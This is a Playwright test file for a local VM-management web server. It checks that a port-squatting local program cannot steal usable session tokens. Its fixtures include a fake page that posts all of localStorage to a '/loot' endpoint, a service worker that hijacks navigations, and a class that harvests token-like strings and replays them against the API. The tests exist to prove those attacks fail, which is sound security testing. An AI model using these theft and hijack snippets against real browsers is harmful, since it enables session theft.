import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { silentLogger } from '../../src/base/index.ts';
import { WebServer } from '../../src/web/index.ts';
import { MemoryBackend, vmRow } from '../fixtures/web-backend.ts';
import { launchChromium, WatchedPage } from './fixtures/chromium.ts';
import { rowOf } from './fixtures/page-node.ts';

const fake = `<!doctype html><title>fake</title><link rel=icon href=data:,><script>
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => {
  fetch('/loot', { method: 'POST', body: JSON.stringify({ ...localStorage }) }).then(() => { document.title = 'robbed'; });
});</script>`;
const worker = `addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return;
  event.respondWith(new Response('<title>of the worker</title>', { headers: { 'content-type': 'text/html' } }));
});`;

/** Another local user's program: keeps all that it is sent, and shows a page that looks into the browser. */
class Squatter {
  readonly headers: IncomingHttpHeaders[] = [];
  readonly said: string[] = [];
  readonly #server: Server;

  constructor() {
    this.#server = createServer(async (request, response) => {
      this.headers.push(request.headers);
      for await (const chunk of request) this.said.push(String(chunk));
      this.said.push(request.url ?? '');
      if (request.url === '/worker.js') response.setHeader('content-type', 'text/javascript').end(worker);
      else response.setHeader('content-type', 'text/html').end(fake);
    });
  }

  async start(port = 0, host = '127.0.0.1'): Promise<number> {
    this.#server.listen(port, host);
    await once(this.#server, 'listening');
    return (this.#server.address() as AddressInfo).port;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }

  /** Everything that may be a key or token. */
  get loot(): string[] {
    const all = `${JSON.stringify(this.headers)} ${this.said.join(' ')}`;
    return [...new Set(all.match(/[\w.-]{24,}/g) ?? [])];
  }
}

describe('the session of a browser, and another user who holds the port while the node is away', () => {
  let browser: Browser;
  let watched: WatchedPage;
  let server: WebServer;
  let oldAddress: string;
  const squatters: Squatter[] = [];

  const serve = async (port = 0) => {
    const backend = new MemoryBackend();
    backend.vms.set(vmRow('demo'));
    const options = { port, pageDir: path.resolve('dist/web'), tokenHint: 'run `virt-node url`' };
    server = new WebServer(options, { backend, log: silentLogger });
    await server.start();
  };
  const squat = async (port = 0) => {
    const squatter = new Squatter();
    squatters.push(squatter);
    return { squatter, port: await squatter.start(port) };
  };
  const squatIpv6 = async (port: number) => {
    const squatter = new Squatter();
    squatters.push(squatter);
    const outcome = await squatter.start(port, '::1').catch((error: NodeJS.ErrnoException) => error.code);
    return { squatter, outcome };
  };

  before(async () => {
    browser = await launchChromium();
    watched = await WatchedPage.open(browser, 'session');
    await serve();
    oldAddress = server.url;
    await watched.page.goto(oldAddress);
    await rowOf(watched.page, 'demo').waitFor();
  });
  after(async () => {
    await browser?.close();
    for (const squatter of squatters) await squatter.stop().catch(() => undefined);
    await server?.stop();
  });

  test('a reload and another tab are let in without the token', async () => {
    assert.equal(new URL(watched.page.url()).hash, '#/');
    await watched.page.reload();
    await rowOf(watched.page, 'demo').waitFor();
    const other = await watched.tab('session-other');
    await other.page.goto(new URL(watched.page.url()).origin);
    await rowOf(other.page, 'demo').waitFor();
    await other.page.close();
  });

  test('a page of another port of this host is sent nothing that is worth anything', async () => {
    const { squatter, port } = await squat();
    const other = await watched.tab('session-elsewhere');
    for (const host of ['127.0.0.1', 'localhost', new URL(watched.page.url()).hostname]) {
      await other.page.goto(`http://${host}:${port}/`);
      await other.page.waitForFunction("document.title === 'robbed'");
    }
    for (const headers of squatter.headers)
      assert.deepEqual([headers.cookie, headers.authorization], [undefined, undefined]);
    assert.ok(squatter.loot.every((text) => !text.includes(server.token)));
    await other.page.close();
  });

  test('who waits at ::1, where browsers ask first, gets neither the page’s port nor anything that is for it', async () => {
    const { squatter, outcome } = await squatIpv6(server.port);
    const tab = await watched.tab('session-ipv6');
    await tab.page.goto(server.url);
    await tab.page.waitForFunction("document.title !== ''");
    assert.notEqual(await tab.page.title(), 'fake');
    await rowOf(tab.page, 'demo').waitFor();
    assert.deepEqual([outcome, squatter.said], ['EADDRINUSE', []]);
    await tab.page.close();
  });

  test('who holds the port while the node is away gets a session and a token that are worthless when it is back', async () => {
    const { port } = server;
    await server.stop();
    const { squatter } = await squat(port);
    const tab = await watched.tab('session-squatted');
    await tab.page.goto(oldAddress);
    await tab.page.waitForFunction("document.title === 'robbed'");
    await squatter.stop();
    await serve(port);
    // Nothing would be proved if it had got nothing: the session of before is in what the fake page read.
    assert.ok(
      squatter.loot.some((text) => /^\d+\.[\w-]{43}$/.test(text)),
      squatter.loot.join(' '),
    );
    for (const secret of squatter.loot) {
      const headers = { authorization: `Bearer ${secret}`, cookie: `virt-web-${port}=${secret}` };
      const answer = await fetch(`http://127.0.0.1:${port}/api/vms`, { headers });
      assert.ok([401, 429].includes(answer.status), `${secret}: ${answer.status}`);
    }
    await tab.page.reload();
    assert.equal(await tab.page.title(), 'of the worker', 'what it left in the browser is still there');
    await tab.page.goto(server.url);
    await rowOf(tab.page, 'demo').waitFor();
    await tab.page.reload();
    await rowOf(tab.page, 'demo').waitFor();
    await tab.page.close();
  });

  test('a page that was open over a restart says what to do, and goes on at the new address', async () => {
    const { port } = server;
    const tab = await watched.tab('session-restart');
    await tab.page.goto(server.url);
    await rowOf(tab.page, 'demo').waitFor();
    await server.stop();
    await tab.page.getByText('The server does not answer: reconnecting').waitFor();
    await serve(port);
    await tab.page.getByText('This address is of an earlier start of the node: run `virt-node url`.').waitFor();
    await tab.picture('1-restarted');
    await tab.page.reload();
    await tab.page.getByRole('heading', { name: 'This address is of an earlier start of the node' }).waitFor();
    await tab.picture('2-reloaded');
    await tab.page.goto(server.url);
    await rowOf(tab.page, 'demo').waitFor();
    await tab.page.close();
  });
});
